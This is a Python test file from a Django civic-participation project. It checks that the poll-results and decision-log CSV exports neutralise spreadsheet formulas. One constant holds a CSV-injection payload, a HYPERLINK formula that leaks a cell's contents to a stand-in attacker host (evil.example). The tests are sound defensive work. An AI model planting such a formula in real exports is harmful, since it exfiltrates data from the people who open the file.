"""Poll results and the decision log as CSV: text typed by people cannot start a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from koproduktion.core.roles import Role
from koproduktion.core.tests.factories import person_with_role
from koproduktion.decisions.models import ResultsVisibility
from koproduktion.decisions.services import ballot_cast, decision_record
from koproduktion.decisions.tests.factories import PollFactory, PollOptionFactory
from koproduktion.projects.tests.factories import staff_of

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Details")'


def _cells(response) -> set[str]:
    assert response.status_code == 200
    return {cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row}


def test_poll_results_csv_neutralises_formulas_on_the_page_and_in_the_api(client):
    poll = PollFactory(results_visibility=ResultsVisibility.LIVE)
    option = PollOptionFactory(poll=poll, title=FORMULA)
    ballot_cast(
        voter=person_with_role(poll.municipality, Role.RESIDENT), poll=poll, choices={option.pk: 1}
    )
    page = reverse(
        "project_decisions:results_csv",
        args=[poll.municipality.slug, poll.project.slug, poll.pk],
    )
    api = (
        f"/api/v1/municipalities/{poll.municipality.slug}/projects/{poll.project.slug}"
        f"/polls/{poll.pk}/results.csv"
    )
    for url in (page, api):
        cells = _cells(client.get(url))
        assert "'" + FORMULA in cells
        assert FORMULA not in cells


def test_decision_log_csv_neutralises_formulas(client):
    poll = PollFactory()
    decision_record(
        actor=staff_of(poll.project),
        municipality=poll.municipality,
        project=poll.project,
        title="+1-1",
        body="committee",
        body_name="@Ortsbeirat",
        decided_on="2026-11-20",
        outcome="adopted",
        reasons="-Einstimmig.",
    )
    cells = _cells(client.get(f"/api/v1/municipalities/{poll.municipality.slug}/decisions.csv"))
    assert {"'+1-1", "'@Ortsbeirat", "'-Einstimmig."} <= cells
    assert not {"+1-1", "@Ortsbeirat", "-Einstimmig."} & cells
